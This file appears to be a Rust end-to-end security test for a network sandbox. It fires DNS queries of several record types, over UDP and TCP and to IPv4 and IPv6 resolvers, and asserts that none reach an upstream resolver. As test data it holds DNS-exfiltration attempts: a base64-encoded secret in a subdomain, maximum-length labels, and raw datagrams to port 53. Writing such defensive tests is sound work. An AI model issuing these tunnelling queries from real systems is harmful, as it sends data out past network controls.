//! DNS exfiltration: queries of every type, to every resolver address, UDP and TCP, v4 and v6,
//! and raw datagrams to port 53 never reach a resolver outside the sandbox.

use super::{py, start_in_upstream, stdout, BASIC_POLICY};
use egret_e2e::*;
use std::time::Duration;

#[test]
fn dns_queries_never_leave_the_sandbox() {
    let topo = Topology::new(SandboxNet::Veth);
    let policy = write(&topo, "policy.toml", BASIC_POLICY);
    let egret = Egret::start(&topo, "sec-dns", &["--policy", &policy]).expect("egret starts");
    // a resolver on every upstream address, UDP and TCP, v4 and v6
    let listener = include_str!("../../../clients/dns_listener.py");
    let resolver = start_in_upstream(&topo, "resolver", listener);
    // sanity: the listener works when asked from its own namespace
    let o = topo.up.run(
        "dig",
        &["+time=1", "+tries=1", "@10.201.0.2", "selftest.test"],
    );
    let _ = o;
    assert!(
        resolver.wait_output("UDP", Duration::from_secs(3)),
        "listener not working: {}",
        resolver.output()
    );
    let baseline = resolver
        .output()
        .lines()
        .filter(|l| l.starts_with("UDP") || l.starts_with("TCP"))
        .count();

    let long_label = "a".repeat(63);
    let long_name = format!(
        "{l}.{l}.{l}.{m}.exfil.test",
        l = long_label,
        m = "b".repeat(40)
    );
    let secret_name = "c2VjcmV0LWRhdGEtZXhmaWx0cmF0aW9u.allowed.test";
    let mut answers = String::new();
    for server in [
        "10.201.0.2",
        "fd00:201::2",
        "10.200.0.2",
        "fd00:200::2",
        "10.200.0.9",
    ] {
        for proto in ["+notcp", "+tcp"] {
            for (qtype, name) in [
                ("TXT", secret_name),
                ("TXT", long_name.as_str()),
                ("A", long_name.as_str()),
                ("AAAA", secret_name),
                ("ANY", "exfil.test"),
                ("NULL", "allowed.test"),
            ] {
                let at = format!("@{server}");
                let o = topo.in_sandbox("dig", &[&at, proto, "+time=2", "+tries=1", qtype, name]);
                let out = stdout(&o);
                // nothing but an address ever comes back
                assert!(
                    !out.contains("\tTXT\t") && !out.contains("\tNULL\t"),
                    "{server} {proto} {qtype} {name}: {out}"
                );
                answers.push_str(&format!(
                    "{server} {proto} {qtype} {}: {}\n",
                    &name[..name.len().min(20)],
                    out.lines()
                        .find(|l| l.contains("status:"))
                        .unwrap_or("no answer")
                ));
            }
        }
    }
    // a raw non-DNS datagram to port 53 too
    let _ = py(
        &topo,
        include_str!("../../../clients/non_dns_datagrams_to_port_53.py"),
        &[],
    );
    std::thread::sleep(Duration::from_millis(500));
    eprintln!("{answers}");
    let seen = resolver
        .output()
        .lines()
        .filter(|l| l.starts_with("UDP") || l.starts_with("TCP"))
        .count();
    assert_eq!(
        seen,
        baseline,
        "the upstream resolver heard from the sandbox:\n{}",
        resolver.output()
    );
    let _ = egret;
}
